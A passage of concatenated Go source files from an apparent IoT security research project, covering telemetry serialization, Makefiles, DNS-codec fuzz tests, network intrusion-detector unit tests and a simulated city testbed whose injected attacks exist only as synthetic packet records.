	if i >= 64 {
		return lo, ^uint64(0)
	}
	return lo, uint64(1)<<uint(i) - 1
}
