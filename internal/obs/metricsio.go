package obs

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"time"
)

// MetricsSchema is the versioned identifier stamped into every telemetry
// file: a header line, then the rollup windows, then the flight-recorder
// dumps, one compact JSON object per line. Readers reject anything else,
// the same contract as xlf-trace/v1.
const MetricsSchema = "xlf-metrics/v1"

// MetricsMeta is the header line of a telemetry file.
type MetricsMeta struct {
	// Schema must be MetricsSchema.
	Schema string `json:"schema"`
	// Seed is the RNG seed the run used.
	Seed int64 `json:"seed"`
	// Clock names the clock mode ("step" or "wall").
	Clock string `json:"clock"`
	// Source names what produced the file (e.g. "xlf-bench -exp E10").
	Source string `json:"source,omitempty"`
	// Interval is the rollup window length.
	Interval time.Duration `json:"interval_ns"`
	// Windows is the number of window lines that follow the header.
	Windows int `json:"windows"`
	// Dumps is the number of dump lines after the windows.
	Dumps int `json:"dumps"`
	// Evicted counts windows the rollup rings displaced before export.
	Evicted uint64 `json:"evicted,omitempty"`
}

// Validate checks the header invariants a well-formed telemetry file
// satisfies.
func (m MetricsMeta) Validate() error {
	switch {
	case m.Schema != MetricsSchema:
		return fmt.Errorf("obs: metrics schema %q, want %q", m.Schema, MetricsSchema)
	case m.Windows < 0:
		return fmt.Errorf("obs: negative window count %d", m.Windows)
	case m.Dumps < 0:
		return fmt.Errorf("obs: negative dump count %d", m.Dumps)
	case m.Interval <= 0:
		return fmt.Errorf("obs: non-positive rollup interval %s", m.Interval)
	case m.Clock == "":
		return fmt.Errorf("obs: metrics meta missing clock mode")
	default:
		return nil
	}
}

// WriteMetrics encodes a telemetry artifact as JSONL: one meta line, then
// the windows, then the dumps. The meta's Schema and the two counts are
// filled in here; callers set the provenance fields. Window and dump
// order must already be deterministic (the exp telemetry tree collects
// depth-first in fork order), so the bytes are reproducible across
// scheduler parallelism.
func WriteMetrics(w io.Writer, meta MetricsMeta, windows []WindowRecord, dumps []Dump) error {
	meta.Schema = MetricsSchema
	meta.Windows = len(windows)
	meta.Dumps = len(dumps)
	if err := meta.Validate(); err != nil {
		return err
	}
	bw := bufio.NewWriter(w)
	enc := json.NewEncoder(bw)
	if err := enc.Encode(meta); err != nil {
		return fmt.Errorf("obs: encode metrics meta: %w", err)
	}
	for i, rec := range windows {
		if err := enc.Encode(rec); err != nil {
			return fmt.Errorf("obs: encode window %d: %w", i, err)
		}
	}
	for i, d := range dumps {
		if err := enc.Encode(d); err != nil {
			return fmt.Errorf("obs: encode dump %d: %w", i, err)
		}
	}
	if err := bw.Flush(); err != nil {
		return fmt.Errorf("obs: flush metrics: %w", err)
	}
	return nil
}

// ReadMetrics decodes a telemetry artifact written by WriteMetrics,
// validating the schema version and that the file holds exactly the
// window and dump counts the header promises.
func ReadMetrics(r io.Reader) (MetricsMeta, []WindowRecord, []Dump, error) {
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64*1024), 1<<22)
	if !sc.Scan() {
		if err := sc.Err(); err != nil {
			return MetricsMeta{}, nil, nil, fmt.Errorf("obs: read metrics header: %w", err)
		}
		return MetricsMeta{}, nil, nil, fmt.Errorf("obs: empty metrics file")
	}
	var meta MetricsMeta
	if err := json.Unmarshal(sc.Bytes(), &meta); err != nil {
		return MetricsMeta{}, nil, nil, fmt.Errorf("obs: decode metrics header: %w", err)
	}
	if err := meta.Validate(); err != nil {
		return MetricsMeta{}, nil, nil, err
	}
	windows := make([]WindowRecord, 0, meta.Windows)
	dumps := make([]Dump, 0, meta.Dumps)
	for sc.Scan() {
		line := sc.Bytes()
		if len(line) == 0 {
			continue
		}
		if len(windows) < meta.Windows {
			var rec WindowRecord
			if err := json.Unmarshal(line, &rec); err != nil {
				return MetricsMeta{}, nil, nil, fmt.Errorf("obs: decode window %d: %w", len(windows), err)
			}
			windows = append(windows, rec)
			continue
		}
		var d Dump
		if err := json.Unmarshal(line, &d); err != nil {
			return MetricsMeta{}, nil, nil, fmt.Errorf("obs: decode dump %d: %w", len(dumps), err)
		}
		dumps = append(dumps, d)
	}
	if err := sc.Err(); err != nil {
		return MetricsMeta{}, nil, nil, fmt.Errorf("obs: read metrics: %w", err)
	}
	if len(windows) != meta.Windows {
		return MetricsMeta{}, nil, nil, fmt.Errorf("obs: metrics file holds %d windows, header promises %d", len(windows), meta.Windows)
	}
	if len(dumps) != meta.Dumps {
		return MetricsMeta{}, nil, nil, fmt.Errorf("obs: metrics file holds %d dumps, header promises %d", len(dumps), meta.Dumps)
	}
	return meta, windows, dumps, nil
}
