GO ?= go

.PHONY: build test race vet vet-fix vet-concurrency vet-determinism vet-shardsafe fmt check report bench

build:
	$(GO) build ./...

test:
	$(GO) test ./...

race:
	$(GO) test -race ./...

# vet runs both the standard toolchain vet and the repository's own
# cross-layer analyzers (layer DAG, determinism, lock hygiene, error
# discipline, pairing, crypto misuse, dead/unreachable code, taint).
vet:
	$(GO) vet ./...
	$(GO) run ./cmd/xlf-vet -baseline vet-baseline.json ./...

# vet-fix applies xlf-vet's suggested mechanical edits, then fails if
# the tree is left dirty — i.e. there were fixable findings. Run it,
# review the diff, commit.
vet-fix:
	$(GO) run ./cmd/xlf-vet -baseline vet-baseline.json -fix ./... || true
	git diff --exit-code

# vet-concurrency runs just the concurrency-safety layer — the
# lock-order graph, goroutine-leak, atomic-mix and //xlf:hotpath
# allocation rules — for quick iteration on locking or hot-path code.
vet-concurrency:
	$(GO) run ./cmd/xlf-vet -only lockorder,goroleak,atomicmix,hotpathalloc -baseline vet-baseline.json ./...

# vet-determinism runs the reproduction-contract layer — the per-file
# determinism rule plus the call-graph rules detflow, globalmut,
# maporder and hotpathalloc — for quick iteration on simulator or
# experiment code. check.sh runs the same set under -race.
vet-determinism:
	$(GO) run ./cmd/xlf-vet -only determinism,detflow,globalmut,maporder,hotpathalloc -baseline vet-baseline.json ./...

# vet-shardsafe runs just the ownership/shard-isolation layer — the
# shardescape, shardhandle and shardphase rules over the //xlf:owned and
# //xlf:phase annotations — for quick iteration while sharding the
# kernel (ROADMAP item 2). check.sh runs the same set under -race.
vet-shardsafe:
	$(GO) run ./cmd/xlf-vet -only shardsafe -baseline vet-baseline.json ./...

fmt:
	gofmt -w .

# check is the CI gate: formatting, both vets, build, race tests.
check:
	sh scripts/check.sh

# report regenerates every paper table and figure.
report:
	$(GO) run ./cmd/probe

# bench runs the full experiment suite in parallel and writes the
# versioned BENCH_<id>.json artifacts to out/bench.
bench:
	$(GO) run ./cmd/xlf-bench -all -parallel 8 -json out/bench
