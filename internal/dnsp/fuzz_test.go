package dnsp

import (
	"bytes"
	"testing"

	"xlf/internal/lwc"
)

// FuzzCodecOpen hammers the lightweight DNS codec's parser: no input may
// panic, and any input that Opens successfully must have a valid tag
// (forgery resistance is probabilistic, but structural crashes are not
// acceptable).
func FuzzCodecOpen(f *testing.F) {
	blk, err := lwc.NewPRESENT(bytes.Repeat([]byte{3}, 10))
	if err != nil {
		f.Fatal(err)
	}
	codec, err := NewCodec(blk)
	if err != nil {
		f.Fatal(err)
	}
	sealed, err := codec.Seal("api.nest.example")
	if err != nil {
		f.Fatal(err)
	}
	f.Add(sealed)
	f.Add([]byte{})
	f.Add([]byte{1, 2, 3})
	f.Add(bytes.Repeat([]byte{0xFF}, 64))

	f.Fuzz(func(t *testing.T, msg []byte) {
		name, err := codec.Open(msg)
		if err == nil && len(name) > len(msg) {
			t.Fatalf("opened name longer than message: %d > %d", len(name), len(msg))
		}
	})
}

// FuzzSealOpenRoundTrip: any name seals and opens back identically.
func FuzzSealOpenRoundTrip(f *testing.F) {
	blk, err := lwc.NewPRESENT(bytes.Repeat([]byte{5}, 10))
	if err != nil {
		f.Fatal(err)
	}
	codec, err := NewCodec(blk)
	if err != nil {
		f.Fatal(err)
	}
	f.Add("api.nest.example")
	f.Add("")
	f.Add("\x00\xff weird.bytes\n")

	f.Fuzz(func(t *testing.T, name string) {
		sealed, err := codec.Seal(name)
		if err != nil {
			t.Fatalf("Seal(%q): %v", name, err)
		}
		got, err := codec.Open(sealed)
		if err != nil {
			t.Fatalf("Open after Seal(%q): %v", name, err)
		}
		if got != name {
			t.Fatalf("roundtrip = %q, want %q", got, name)
		}
	})
}
