GO ?= go

.PHONY: build test race vet fmt check report bench

build:
	$(GO) build ./...

test:
	$(GO) test ./...

race:
	$(GO) test -race ./...

# vet runs both the standard toolchain vet and the repository's own
# cross-layer analyzers (layercheck, determinism, lockcheck, errdrop).
vet:
	$(GO) vet ./...
	$(GO) run ./cmd/xlf-vet ./...

fmt:
	gofmt -w .

# check is the CI gate: formatting, both vets, build, race tests.
check:
	sh scripts/check.sh

# report regenerates every paper table and figure.
report:
	$(GO) run ./cmd/probe

# bench runs the full experiment suite in parallel and writes the
# versioned BENCH_<id>.json artifacts to out/bench.
bench:
	$(GO) run ./cmd/xlf-bench -all -parallel 8 -json out/bench
