package ids

import (
	"fmt"
	"testing"
	"time"

	"xlf/internal/netsim"
)

func rec(t time.Duration, src, dst netsim.Addr, port, size int) netsim.PacketRecord {
	return netsim.PacketRecord{Time: t, Src: src, Dst: dst, DstPort: port, Size: size}
}

func TestScanDetectorFiresOnFanOut(t *testing.T) {
	d := NewScanDetector(10*time.Second, 10)
	var alerts []Alert
	for i := 0; i < 20; i++ {
		r := rec(time.Duration(i)*100*time.Millisecond, "lan:cam-1", netsim.Addr(fmt.Sprintf("wan:victim-%d", i)), 23, 60)
		alerts = append(alerts, d.Process(r)...)
	}
	if len(alerts) != 1 {
		t.Fatalf("alerts = %d, want exactly 1 (rate-limited)", len(alerts))
	}
	a := alerts[0]
	if a.Detector != "scan" || a.Src != "lan:cam-1" || a.Confidence < 0.5 {
		t.Errorf("alert = %s", a)
	}
}

func TestScanDetectorIgnoresNormalTraffic(t *testing.T) {
	d := NewScanDetector(10*time.Second, 10)
	// A device talking to its two cloud endpoints repeatedly: no fan-out.
	for i := 0; i < 100; i++ {
		dst := netsim.Addr("wan:cloud-a")
		if i%2 == 0 {
			dst = "wan:cloud-b"
		}
		if got := d.Process(rec(time.Duration(i)*50*time.Millisecond, "lan:bulb", dst, 443, 120)); len(got) != 0 {
			t.Fatalf("false positive: %v", got)
		}
	}
}

func TestScanDetectorWindowEviction(t *testing.T) {
	d := NewScanDetector(time.Second, 10)
	// 9 targets, then a long pause, then 9 more: never 10 in one window.
	for i := 0; i < 9; i++ {
		d.Process(rec(time.Duration(i)*10*time.Millisecond, "lan:x", netsim.Addr(fmt.Sprintf("wan:a-%d", i)), 23, 60))
	}
	for i := 0; i < 9; i++ {
		if got := d.Process(rec(5*time.Second+time.Duration(i)*10*time.Millisecond, "lan:x", netsim.Addr(fmt.Sprintf("wan:b-%d", i)), 23, 60)); len(got) != 0 {
			t.Fatalf("evicted window still triggered: %v", got)
		}
	}
}

func TestFloodDetector(t *testing.T) {
	d := NewFloodDetector(time.Second, 100, 3)
	var alerts []Alert
	// 3 bots at 50 pps each to one victim -> 150 pkts in a 1s bin.
	for i := 0; i < 150; i++ {
		src := netsim.Addr(fmt.Sprintf("lan:bot-%d", i%3))
		alerts = append(alerts, d.Process(rec(time.Duration(i)*6*time.Millisecond, src, "wan:victim", 80, 512))...)
	}
	if len(alerts) != 1 {
		t.Fatalf("alerts = %d, want 1", len(alerts))
	}
	if alerts[0].Dst != "wan:victim" {
		t.Errorf("alert dst = %s", alerts[0].Dst)
	}
}

func TestFloodDetectorRequiresDistributedSources(t *testing.T) {
	d := NewFloodDetector(time.Second, 100, 3)
	// One chatty (benign) source exceeding the packet threshold alone.
	for i := 0; i < 300; i++ {
		if got := d.Process(rec(time.Duration(i)*3*time.Millisecond, "lan:tv", "wan:stream", 443, 1400)); len(got) != 0 {
			t.Fatalf("single-source stream flagged as DDoS: %v", got)
		}
	}
}

func TestBeaconDetector(t *testing.T) {
	d := NewBeaconDetector(8, 0.1)
	var alerts []Alert
	// Perfectly periodic beacon every 5s.
	for i := 0; i < 12; i++ {
		alerts = append(alerts, d.Process(rec(time.Duration(i)*5*time.Second, "lan:cam", "wan:cnc", 6667, 64))...)
	}
	if len(alerts) != 1 {
		t.Fatalf("alerts = %d, want 1", len(alerts))
	}
	if alerts[0].Detector != "cc-beacon" {
		t.Errorf("alert = %s", alerts[0])
	}
}

func TestBeaconDetectorIgnoresHumanTraffic(t *testing.T) {
	d := NewBeaconDetector(8, 0.1)
	// Human-ish irregular intervals (1s..20s jittered deterministically).
	times := []time.Duration{0, 1, 4, 5, 11, 12, 19, 27, 28, 36, 49, 50}
	for _, s := range times {
		if got := d.Process(rec(s*time.Second, "lan:phone", "wan:web", 443, 800)); len(got) != 0 {
			t.Fatalf("irregular traffic flagged: %v", got)
		}
	}
}

func TestBruteForceDetector(t *testing.T) {
	d := NewBruteForceDetector(30*time.Second, 8)
	var alerts []Alert
	for i := 0; i < 10; i++ {
		alerts = append(alerts, d.Process(rec(time.Duration(i)*time.Second, "wan:attacker", "lan:cam", 23, 40))...)
	}
	if len(alerts) != 1 {
		t.Fatalf("alerts = %d, want 1", len(alerts))
	}
	// Non-auth ports ignored.
	d2 := NewBruteForceDetector(30*time.Second, 3)
	for i := 0; i < 10; i++ {
		if got := d2.Process(rec(time.Duration(i)*time.Second, "lan:a", "lan:b", 8883, 40)); len(got) != 0 {
			t.Fatalf("non-auth port flagged: %v", got)
		}
	}
}

func TestPipelineFanOutAndCollect(t *testing.T) {
	p := DefaultPipeline()
	var recs []netsim.PacketRecord
	// Mixed: a scan + a beacon, interleaved with benign chatter.
	for i := 0; i < 30; i++ {
		recs = append(recs, rec(time.Duration(i)*300*time.Millisecond, "lan:infected", netsim.Addr(fmt.Sprintf("wan:t%d", i)), 23, 60))
		// Benign chatter with human-scale jitter (i^2 mod 700 ms) so it is
		// not machine-periodic.
		jitter := time.Duration(i*i*37%700) * time.Millisecond
		recs = append(recs, rec(time.Duration(i)*300*time.Millisecond+jitter, "lan:bulb", "wan:hue", 443, 200))
	}
	for i := 0; i < 12; i++ {
		recs = append(recs, rec(time.Duration(i)*5*time.Second, "lan:cam", "wan:cnc", 6667, 64))
	}
	alerts := p.ProcessAll(recs)
	byDet := map[string]int{}
	for _, a := range alerts {
		byDet[a.Detector]++
	}
	if byDet["scan"] == 0 {
		t.Error("pipeline missed the scan")
	}
	if byDet["cc-beacon"] == 0 {
		t.Error("pipeline missed the beacon")
	}
	// No alert should blame the benign bulb.
	for _, a := range alerts {
		if a.Src == "lan:bulb" {
			t.Errorf("benign device accused: %s", a)
		}
	}
	if len(p.Alerts()) != len(alerts) {
		t.Error("Alerts() inconsistent with returned alerts")
	}
}

func TestAlertString(t *testing.T) {
	a := Alert{Time: time.Second, Detector: "scan", Src: "lan:x", Dst: "wan:y", Confidence: 0.9, Detail: "d"}
	s := a.String()
	for _, want := range []string{"scan", "lan:x", "wan:y", "0.90"} {
		if !contains(s, want) {
			t.Errorf("alert string %q missing %q", s, want)
		}
	}
}

func contains(s, sub string) bool {
	return len(s) >= len(sub) && (s == sub || len(sub) == 0 || indexOf(s, sub) >= 0)
}

func indexOf(s, sub string) int {
	for i := 0; i+len(sub) <= len(s); i++ {
		if s[i:i+len(sub)] == sub {
			return i
		}
	}
	return -1
}
