package testbed

import (
	"bytes"
	"testing"
	"time"

	"xlf/internal/netsim"
	"xlf/internal/obs"
)

// raceEnabledTestbed is flipped by alloc_race_test.go: the race runtime
// instruments allocations, so AllocsPerRun guards only run in regular
// builds.
var raceEnabledTestbed bool

func telemetryCity(t *testing.T) (*City, CityStats) {
	t.Helper()
	city, err := NewCity(CityConfig{
		Seed:           7,
		Devices:        1000,
		Horizon:        60 * time.Second,
		RollupInterval: time.Second,
		Attacks:        DefaultCityAttacks(),
	})
	if err != nil {
		t.Fatal(err)
	}
	st, err := city.Run()
	if err != nil {
		t.Fatal(err)
	}
	return city, st
}

// TestCityTelemetryDetectsAttacks runs the default timeline and checks
// the full loop: injections marked, every attack detected, latency
// within the SLO, windows and dumps produced.
func TestCityTelemetryDetectsAttacks(t *testing.T) {
	city, st := telemetryCity(t)
	tel := city.Telemetry()
	if tel == nil {
		t.Fatal("telemetry enabled but Telemetry() is nil")
	}
	if st.Sent == 0 || st.Dropped != 0 {
		t.Fatalf("city run degenerate: %+v", st)
	}

	// 2 flood victims + 1 exfil victim, all detected.
	if got := tel.Registry.Counter(obs.DetectInjected).Value(); got != 3 {
		t.Errorf("injected = %d, want 3", got)
	}
	if got := tel.Registry.Counter(obs.DetectDetected).Value(); got != 3 {
		t.Errorf("detected = %d, want 3", got)
	}
	if p := tel.Detections.Pending(); p != 0 {
		t.Errorf("%d injections never detected", p)
	}
	stats := tel.Detections.Stats()
	if len(stats) != 2 {
		t.Fatalf("stats classes = %+v, want exfil and flood", stats)
	}
	if stats[0].Class != CityAttackExfil || stats[1].Class != CityAttackFlood {
		t.Errorf("stats order = %+v", stats)
	}
	// Exfil is flagged at first oversized delivery: well under a window.
	if stats[0].P99 > 100*time.Millisecond {
		t.Errorf("exfil p99 = %s, want sub-window detection", stats[0].P99)
	}
	// Flood attribution needs a full window scan (plus the bucketed 2x).
	if stats[1].P99 > 2*tel.Detections.SLO() {
		t.Errorf("flood p99 = %s breaches 2x SLO %s", stats[1].P99, tel.Detections.SLO())
	}
	if got := tel.Registry.Counter(obs.DetectSLOBreach).Value(); got != 0 {
		t.Errorf("slo breaches = %d, want 0 (windows are 1s, SLO 2s)", got)
	}

	// ~60 windows of rollup, and at least one alert-triggered dump.
	if tot := tel.Rollup.Total(); tot < 55 || tot > 61 {
		t.Errorf("rollup windows = %d, want ~60", tot)
	}
	dumps := tel.Recorder.Dumps()
	if len(dumps) == 0 {
		t.Fatal("no flight-recorder dumps despite alerts")
	}
	if dumps[0].Reasons[0] != "alert" {
		t.Errorf("first dump reasons = %v", dumps[0].Reasons)
	}

	// The windows carry the flood: some window's city.flood_flagged
	// delta must be nonzero, and attack traffic must show up.
	flagged := false
	for _, w := range tel.Rollup.Windows() {
		for _, cs := range w.Counters {
			if cs.Name == "city.flood_flagged" && cs.Delta > 0 {
				flagged = true
			}
		}
	}
	if !flagged {
		t.Error("no rollup window recorded a flood flag")
	}
	if tel.Registry.Counter("city.attack_sent").Value() == 0 {
		t.Error("attack traffic counter never moved")
	}
}

// TestCityTelemetryDeterministic: two identically-seeded runs serialize
// byte-identical xlf-metrics/v1 artifacts.
func TestCityTelemetryDeterministic(t *testing.T) {
	var bufs [2]bytes.Buffer
	for i := range bufs {
		city, _ := telemetryCity(t)
		tel := city.Telemetry()
		meta := obs.MetricsMeta{Seed: 7, Clock: "step", Interval: tel.Rollup.Interval()}
		if err := obs.WriteMetrics(&bufs[i], meta, tel.Rollup.Windows(), tel.Recorder.Dumps()); err != nil {
			t.Fatal(err)
		}
	}
	if !bytes.Equal(bufs[0].Bytes(), bufs[1].Bytes()) {
		t.Fatal("telemetry bytes differ between two identically-seeded runs")
	}
}

// TestCityAttacksRequireTelemetry: a timeline without a rollup interval
// is a configuration error, not a silently undetected run.
func TestCityAttacksRequireTelemetry(t *testing.T) {
	_, err := NewCity(CityConfig{Devices: 100, Attacks: DefaultCityAttacks()})
	if err == nil {
		t.Fatal("attacks without RollupInterval accepted")
	}
	if _, err := NewCity(CityConfig{Devices: 100, RollupInterval: time.Second,
		Attacks: []CityAttack{{Class: "meteor", At: time.Second}}}); err == nil {
		t.Fatal("unknown attack class accepted")
	}
}

// TestCityTelemetryDisabledIsFrozen: without RollupInterval the run
// matches the plain city byte-for-byte (same stats, no registry).
func TestCityTelemetryDisabledIsFrozen(t *testing.T) {
	a, err := NewCity(CityConfig{Seed: 3, Devices: 500})
	if err != nil {
		t.Fatal(err)
	}
	if a.Telemetry() != nil {
		t.Fatal("telemetry pipeline built without RollupInterval")
	}
	stA, err := a.Run()
	if err != nil {
		t.Fatal(err)
	}
	b, err := NewCity(CityConfig{Seed: 3, Devices: 500, RollupInterval: time.Second})
	if err != nil {
		t.Fatal(err)
	}
	stB, err := b.Run()
	if err != nil {
		t.Fatal(err)
	}
	// Telemetry without attacks must not perturb the scenario itself —
	// only the kernel event count moves (one dispatch per window).
	if extra := stB.Events - stA.Events; extra != 60 {
		t.Errorf("telemetry tick dispatched %d events, want 60 (one per window)", extra)
	}
	stB.Events = stA.Events
	if stA != stB {
		t.Errorf("telemetry changed the run: %+v vs %+v", stA, stB)
	}
}

// TestSensorIndexOf pins the zero-alloc address parser.
func TestSensorIndexOf(t *testing.T) {
	cases := []struct {
		in   netsim.Addr
		want int
	}{
		{"lan:sensor-0", 0},
		{"lan:sensor-42", 42},
		{"lan:sensor-999999", 999999},
		{"lan:district-3", -1},
		{"lan:sensor-", -1},
		{"lan:sensor-12x", -1},
		{"wan:other", -1},
	}
	for _, c := range cases {
		if got := sensorIndexOf(c.in); got != c.want {
			t.Errorf("sensorIndexOf(%q) = %d, want %d", c.in, got, c.want)
		}
	}
}

// TestCityHotPathAllocFree is the dynamic half of the //xlf:hotpath
// contract for the telemetry-enabled delivery path.
func TestCityHotPathAllocFree(t *testing.T) {
	if raceEnabledTestbed {
		t.Skip("allocation counts are not meaningful under -race")
	}
	city, err := NewCity(CityConfig{Seed: 1, Devices: 100, RollupInterval: time.Second})
	if err != nil {
		t.Fatal(err)
	}
	pkt := netsim.Packet{Src: "lan:sensor-7", Dst: districtAddr(0), Size: 64}
	big := netsim.Packet{Src: "lan:sensor-8", Dst: districtAddr(0), Size: exfilSize}
	if n := testing.AllocsPerRun(200, func() {
		city.deliver(0, &pkt)
		city.deliver(0, &big)
	}); n != 0 {
		t.Errorf("telemetry-enabled deliver allocates %.1f per run, want 0", n)
	}
}
