package exp

import (
	"strings"
	"testing"
)

// The experiment suite's assertions check the SHAPE of each result — who
// wins, by roughly what factor, where the crossovers fall — not absolute
// numbers (per the reproduction contract in DESIGN.md).

func TestTable1Shape(t *testing.T) {
	r := mustLookup(t, "T1").Run(NewEnv(1))
	if r.Numbers["rows"] != 20 {
		t.Errorf("rows = %v, want 20", r.Numbers["rows"])
	}
	// Every device except the passive RFID tags can afford some cipher.
	if r.Numbers["devices_with_cipher"] < 17 {
		t.Errorf("devices with an affordable cipher = %v, want >= 17", r.Numbers["devices_with_cipher"])
	}
	if !strings.Contains(r.Output, "Philips Hue") {
		t.Error("Table I output incomplete")
	}
}

func TestTable2Shape(t *testing.T) {
	r := mustLookup(t, "T2").Run(NewEnv(1))
	if r.Numbers["vulnerable_successes"] != 7 {
		t.Errorf("vulnerable successes = %v, want 7", r.Numbers["vulnerable_successes"])
	}
	// The hardened platform stops the OTA tamper; the rest are device
	// flaws it cannot remove.
	if r.Numbers["hardened_successes"] >= 7 {
		t.Errorf("hardened successes = %v, want < 7", r.Numbers["hardened_successes"])
	}
	// XLF detects every Table II attack even where prevention is
	// impossible.
	if r.Numbers["xlf_detected"] != 7 {
		t.Errorf("XLF detected = %v, want 7", r.Numbers["xlf_detected"])
	}
}

func TestTable3Shape(t *testing.T) {
	r := mustLookup(t, "T3").Run(NewEnv(1))
	if r.Numbers["algorithms"] != 16 {
		t.Errorf("algorithms = %v, want 16 (Table III rows)", r.Numbers["algorithms"])
	}
	if r.Numbers["fastest_mbps"] <= 0 {
		t.Error("no measured throughput")
	}
	for _, name := range []string{"AES", "PRESENT", "Hummingbird2", "TWINE", "3DES"} {
		if !strings.Contains(r.Output, name) {
			t.Errorf("Table III missing %s", name)
		}
	}
}

func TestFiguresRender(t *testing.T) {
	if f := Figure1(); !strings.Contains(f.Output, "Device layer") {
		t.Error("figure 1 incomplete")
	}
	if f := Figure2(); f.Numbers["protocols"] < 20 {
		t.Error("figure 2 incomplete")
	}
	f3 := Figure3()
	if f3.Numbers["attacks"] < 13 {
		t.Errorf("figure 3 attacks = %v, want >= 13", f3.Numbers["attacks"])
	}
	for _, want := range []string{"device layer", "network layer", "service layer"} {
		if !strings.Contains(f3.Output, want) {
			t.Errorf("figure 3 missing %q", want)
		}
	}
	if f := Figure4(); !strings.Contains(f.Output, "XLF Core") {
		t.Error("figure 4 incomplete")
	}
}

func TestE1CrossLayerDominates(t *testing.T) {
	r := mustLookup(t, "E1").Run(NewEnv(1))
	full := r.Numbers["f1_xlf-full"]
	for _, single := range []string{"device-only", "network-only", "service-only"} {
		if full <= r.Numbers["f1_"+single] {
			t.Errorf("xlf-full F1 %v not above %s F1 %v", full, single, r.Numbers["f1_"+single])
		}
	}
	if full < 0.99 {
		t.Errorf("xlf-full F1 = %v, want ~1.0", full)
	}
	// The corroboration bonus must contribute (no-bonus recall strictly
	// below full recall on this campaign).
	if r.Numbers["recall_xlf-no-bonus"] >= r.Numbers["recall_xlf-full"] {
		t.Errorf("layer bonus shows no effect: %v vs %v",
			r.Numbers["recall_xlf-no-bonus"], r.Numbers["recall_xlf-full"])
	}
	// Nothing benign is accused in any configuration.
	for _, cfg := range []string{"device-only", "network-only", "service-only", "xlf-no-bonus", "xlf-full"} {
		if r.Numbers["precision_"+cfg] < 0.99 {
			t.Errorf("%s precision = %v, want 1.0", cfg, r.Numbers["precision_"+cfg])
		}
	}
}

// TestE1RobustAcrossSeeds re-runs the flagship claim at different seeds:
// the dominance ordering must not be an artifact of one RNG stream.
func TestE1RobustAcrossSeeds(t *testing.T) {
	if testing.Short() {
		t.Skip("multi-seed sweep in -short mode")
	}
	for _, seed := range []int64{2, 5, 11} {
		r := mustLookup(t, "E1").Run(NewEnv(seed))
		full := r.Numbers["f1_xlf-full"]
		for _, single := range []string{"device-only", "network-only", "service-only"} {
			if full <= r.Numbers["f1_"+single] {
				t.Errorf("seed %d: xlf-full F1 %v not above %s %v", seed, full, single, r.Numbers["f1_"+single])
			}
		}
		if r.Numbers["precision_xlf-full"] < 0.99 {
			t.Errorf("seed %d: precision %v", seed, r.Numbers["precision_xlf-full"])
		}
	}
}

func TestE2ShapingTradeoff(t *testing.T) {
	r := mustLookup(t, "E2").Run(NewEnv(1))
	// Without shaping the adversary wins outright.
	if r.Numbers["recall_0.00"] < 0.99 || r.Numbers["ident_0.00"] < 0.8 {
		t.Errorf("unshaped adversary too weak: recall=%v ident=%v",
			r.Numbers["recall_0.00"], r.Numbers["ident_0.00"])
	}
	// Full shaping hides events completely.
	if r.Numbers["recall_1.00"] > 0.01 {
		t.Errorf("full shaping leaks events: recall=%v", r.Numbers["recall_1.00"])
	}
	// And costs real overhead.
	if r.Numbers["overhead_1.00"] <= r.Numbers["overhead_0.00"] {
		t.Error("shaping reported no overhead cost")
	}
	// Identification confidence is non-increasing from off to full.
	if r.Numbers["ident_1.00"] >= r.Numbers["ident_0.00"] {
		t.Errorf("identification not degraded: %v -> %v", r.Numbers["ident_0.00"], r.Numbers["ident_1.00"])
	}
}

func TestE3ProxyBeatsBaseline(t *testing.T) {
	r := mustLookup(t, "E3").Run(NewEnv(1))
	if r.Numbers["proxy_mean_ms"] >= r.Numbers["baseline_mean_ms"] {
		t.Errorf("proxy (%vms) not faster than baseline (%vms)",
			r.Numbers["proxy_mean_ms"], r.Numbers["baseline_mean_ms"])
	}
	// The gap should be large (LAN cache vs cloud RTT): at least 3x.
	if r.Numbers["baseline_mean_ms"]/r.Numbers["proxy_mean_ms"] < 3 {
		t.Errorf("proxy advantage below 3x: %v vs %v",
			r.Numbers["proxy_mean_ms"], r.Numbers["baseline_mean_ms"])
	}
}

func TestE4EncryptedDPIEquivalent(t *testing.T) {
	r := mustLookup(t, "E4").Run(NewEnv(1))
	if r.Numbers["equal_detections"] != 1 {
		t.Error("encrypted and plaintext paths disagree on detections")
	}
	if r.Numbers["recall"] < 0.99 {
		t.Errorf("recall = %v, want 1.0", r.Numbers["recall"])
	}
	if r.Numbers["plain_mbps"] <= r.Numbers["enc_mbps"] {
		t.Errorf("plaintext (%v MB/s) should outrun the encrypted path (%v MB/s)",
			r.Numbers["plain_mbps"], r.Numbers["enc_mbps"])
	}
}

func TestE5NoiseDegradesGracefully(t *testing.T) {
	r := mustLookup(t, "E5").Run(NewEnv(1))
	if r.Numbers["f1_noise_0.00"] < 0.99 {
		t.Errorf("clean F1 = %v, want 1.0", r.Numbers["f1_noise_0.00"])
	}
	if r.Numbers["f1_noise_0.35"] > r.Numbers["f1_noise_0.00"] {
		t.Error("noise improved detection (suspicious)")
	}
	if r.Numbers["acc_noise_0.10"] < 0.8 {
		t.Errorf("light-noise accuracy = %v, want >= 0.8", r.Numbers["acc_noise_0.10"])
	}
}

func TestE6FusionWins(t *testing.T) {
	r := mustLookup(t, "E6").Run(NewEnv(1))
	best := 0.0
	for _, k := range []string{"device-rbf", "network-rbf", "event-spectrum"} {
		if r.Numbers["acc_"+k] > best {
			best = r.Numbers["acc_"+k]
		}
	}
	if r.Numbers["acc_mkl"] <= best {
		t.Errorf("MKL (%v) does not beat best single kernel (%v)", r.Numbers["acc_mkl"], best)
	}
	if r.Numbers["purity"] < 0.99 {
		t.Errorf("community purity = %v, want 1.0", r.Numbers["purity"])
	}
	if r.Numbers["modularity"] < 0.3 {
		t.Errorf("modularity = %v, want > 0.3", r.Numbers["modularity"])
	}
}

func TestE7BridgeProperties(t *testing.T) {
	r := mustLookup(t, "E7").Run(NewEnv(1))
	// Cleartext leaks and is poisonable.
	if r.Numbers["visible_DNS"] == 0 || r.Numbers["poisoned_DNS"] != 1 {
		t.Errorf("cleartext DNS: visible=%v poisoned=%v", r.Numbers["visible_DNS"], r.Numbers["poisoned_DNS"])
	}
	// Both encrypted modes resist and hide device names.
	for _, mode := range []string{"DoT", "XLF-bridge"} {
		if r.Numbers["poisoned_"+mode] != 0 {
			t.Errorf("%s poisoned", mode)
		}
		if r.Numbers["visible_"+mode] >= r.Numbers["visible_DNS"] {
			t.Errorf("%s leaks as much as cleartext", mode)
		}
	}
